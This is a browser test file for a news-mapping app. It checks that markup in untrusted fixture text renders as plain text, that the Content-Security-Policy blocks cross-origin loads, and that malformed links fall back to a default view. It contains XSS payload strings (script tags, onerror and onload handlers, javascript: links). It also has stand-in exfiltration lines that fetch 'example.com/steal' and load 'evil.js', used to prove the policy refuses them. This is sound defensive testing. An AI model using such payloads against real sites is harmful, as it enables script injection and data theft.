// Untrusted text in the browser: the fixture corpus holds an article, a place, an actor and an incident whose text
// is markup (<script>, <img onerror>, javascript: links, entities). It must show as typed, run nothing and fetch
// nothing; the Content-Security-Policy must refuse what gets past anyway; hostile links open the default view.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { FIXTURE_EXPORT, ensureFixtureExport, launch, mapView, offlineContext, serve, watchErrors, type Blocked, type Served } from './helpers';

let server: Served;
let browser: Browser;
let context: BrowserContext;
let blocked: Blocked;

beforeAll(async () => {
  ensureFixtureExport();
  [server, browser] = await Promise.all([serve(FIXTURE_EXPORT.dir, FIXTURE_EXPORT.basePath), launch()]);
  ({ context, blocked } = await offlineContext(browser));
}, 240_000);

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await server?.close();
});

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(1)</script>';

/** Opens a page that records every dialog (alert, confirm, prompt) and every page error. */
async function open(path: string, waitFor = '.leaflet-container'): Promise<{ page: Page; dialogs: string[]; errors: string[] }> {
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const errors = watchErrors(page);
  await page.goto(server.url + path);
  await page.locator(waitFor).first().waitFor();
  return { page, dialogs, errors };
}

/** Elements that only injected markup would create (Next.js's own inline scripts carry the page's payload). */
const injected = (page: Page) =>
  page.evaluate(() => {
    const markup = document.querySelectorAll(
      'img[src="x"], [onerror], [onload], [onmouseover], a[href^="javascript:"], iframe, b, i',
    ).length;
    const scripts = [...document.scripts].filter((s) => s.src === '' && !/^\(?(?:self\.__next_f|globalThis\["TURBOPACK"\])/.test(s.text)).length;
    return markup + scripts;
  });

/** Every request that left 127.0.0.1 went to the tile host (and was blocked by the test harness). */
const onlyTiles = () => blocked.urls.filter((url) => !/tile\.openstreetmap\.org/.test(url));

describe('untrusted text', () => {
  test('an incident whose title and quote are markup shows them as typed', async () => {
    const { page, dialogs, errors } = await open('?incident=i-hostile');
    const detail = page.locator('.mw-incident');
    await expect.poll(() => detail.locator('h2').textContent()).toBe(`Protest ${SCRIPT} at ${IMG}`);
    expect(await detail.locator('.mw-quote').first().textContent()).toContain(
      '"We want <i>bread</i> & <a href="javascript:alert(1)">justice</a>," one protester said.',
    );
    expect(await page.locator('.mw-tray .mw-chip[data-incident="i-hostile"]').textContent()).toContain(IMG);
    expect(await detail.textContent()).toContain('<svg onload=alert(1)> Smith');
    expect(await injected(page)).toBe(0);
    expect(await page.title()).toBe('Mapwire');

    // The article itself, in the sources tab: entities stay as written, markup is text.
    await page.locator('.mw-tray .mw-chip[data-incident="i-hostile"]').waitFor();
    await page.goto(`${server.url}?source=900_hostile_markup`);
    const fulltext = page.locator('.mw-fulltext');
    await expect.poll(() => fulltext.textContent()).toContain('prices rose 5 &lt; 10 &amp; more');
    expect(await fulltext.textContent()).toContain('<iframe src="https://example.com/x"></iframe>');
    const source = page.locator('.mw-source[data-source="900_hostile_markup"]');
    expect(await source.locator('h3').textContent()).toBe(`Crowd gathers ${IMG} outside ${SCRIPT} ministry`);
    expect(await source.locator('.mw-byline').textContent()).toContain('<a href="javascript:alert(1)">Wire</a>');
    expect(await injected(page)).toBe(0);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(onlyTiles()).toEqual([]);
    await page.close();
  });

  test('a place and an actor named with markup: panel, marker title, tooltip and popup get text', async () => {
    const { page, dialogs, errors } = await open('?place=h-port#map=8/17.94/-76.84');
    const name = `Port ${IMG}`;
    await expect.poll(() => page.locator('.mw-place h2').textContent()).toBe(name);
    const marker = page.locator('.mw-place-marker').filter({ has: page.locator('svg') }).and(page.locator(`[title="${name}"]`));
    await marker.hover();
    await expect.poll(() => page.locator('.leaflet-tooltip').first().textContent()).toBe(`${name} · 1 mention`);

    const actor = page.locator('.mw-actor-marker[title^="<svg"]');
    await expect.poll(() => actor.getAttribute('title')).toBe(`<svg onload=alert(1)> Smith in ${name}`);
    await actor.dispatchEvent('click');
    await expect.poll(() => page.locator('.leaflet-popup').textContent()).toContain(`Actors in ${name}`);
    expect(await page.locator('.leaflet-popup button').textContent()).toBe('<svg onload=alert(1)> Smith');
    expect(await injected(page)).toBe(0);

    await page.goto(`${server.url}?panel=actors`);
    await expect.poll(() => page.locator('.mw-actor[data-actor="h-organiser"]').textContent()).toContain('<svg onload=alert(1)> Smith');
    expect(await injected(page)).toBe(0);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(onlyTiles()).toEqual([]);
    await page.close();
  });

  test("the incident's permalink page escapes its title and Open Graph text", async () => {
    const { page, dialogs } = await open('incident/i-hostile/', 'h2');
    expect(await page.title()).toBe(`Protest ${SCRIPT} at ${IMG} · Mapwire`);
    expect(await page.locator('meta[property="og:title"]').getAttribute('content')).toBe(`Protest ${SCRIPT} at ${IMG}`);
    expect(await page.locator('meta[property="og:description"]').getAttribute('content')).toContain('<a href="javascript:alert(1)">');
    expect(await page.locator('h2').first().textContent()).toBe(`Protest ${SCRIPT} at ${IMG}`);
    expect(await injected(page)).toBe(0);
    expect(dialogs).toEqual([]);
    await page.close();
  });
});

describe('Content-Security-Policy', () => {
  test('allows own origin and the tile host only, and the browser enforces it', async () => {
    const { page } = await open('');
    const csp = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'))!;
    const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v]));
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).not.toContain('*');
    expect(directives.get('script-src')?.filter((s) => !s.startsWith("'"))).toEqual([]);
    expect(directives.get('img-src')).toEqual(["'self'", 'data:', 'blob:', 'https://tile.openstreetmap.org']);

    // Whatever markup got into the page could not reach another origin: the policy refuses before the network does.
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      await fetch('https://example.com/steal').catch(() => null);
      const script = document.createElement('script');
      script.src = 'https://example.com/evil.js';
      document.body.append(script);
      const img = document.createElement('img');
      img.src = 'https://example.com/pixel.png';
      document.body.append(img);
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/frame';
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return seen.sort();
    });
    expect(violations).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-elem']);
    expect(onlyTiles()).toEqual([]);
    await page.close();
  });
});

describe('hostile links open the default view with a notice', () => {
  const cases: Array<[name: string, path: string, notice: RegExp]> = [
    ['coordinates off the globe', '#map=99/999/999', /ignored map view/],
    ['an unknown place', '?place=nope', /no place "nope" here/],
    ['an unknown incident', '?incident=nope', /no incident "nope" here/],
    ['an unknown actor', '?actor=nope', /no actor "nope" here/],
    ['an unknown source', '?source=nope', /no source "nope" here/],
    ['a 100 kB query', `?q=${'a'.repeat(100_000)}`, /shortened the search text/],
    ['repeated parameters', `?${Array.from({ length: 500 }, (_, i) => `type=x${i}&place=p${i}`).join('&')}`, /unknown incident types/],
    ['a garbage hash', '#%E0%A4%A&map=%3Cimg%20src=x%20onerror=alert(1)%3E', /ignored map view/],
  ];
  test.each(cases)('%s', async (_name, path, notice) => {
    const { page, dialogs, errors } = await open(path);
    await expect.poll(() => mapView(page)).toMatch(/^\d+\/-?[\d.]+\/-?[\d.]+$/);
    expect(await page.locator('.mw-header h1').textContent()).toBe('Mapwire');
    await expect.poll(() => page.locator('.mw-result-count').textContent()).toMatch(/ of 10 incidents$/);
    await expect.poll(() => page.locator('.mw-notice').textContent()).toMatch(notice);
    expect(((await page.locator('.mw-notice').textContent()) ?? '').length).toBeLessThan(800);
    if (path.includes('=nope')) {
      // an id the corpus does not hold is dropped from the link, not left filtering to nothing
      await expect.poll(() => new URL(page.url()).search).toBe('');
      await expect.poll(() => page.locator('.mw-result-count').textContent()).toBe('10 of 10 incidents');
    }
    expect(await injected(page)).toBe(0);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  test('markup typed into the search box stays text', async () => {
    const { page, dialogs } = await open(`?q=${encodeURIComponent(SCRIPT)}`);
    expect(await page.getByPlaceholder('Search quotes and titles').inputValue()).toBe(SCRIPT);
    await expect.poll(() => page.locator('.mw-result-count').textContent()).toBe('1 of 10 incidents');
    expect(dialogs).toEqual([]);
    await page.close();
  });
});
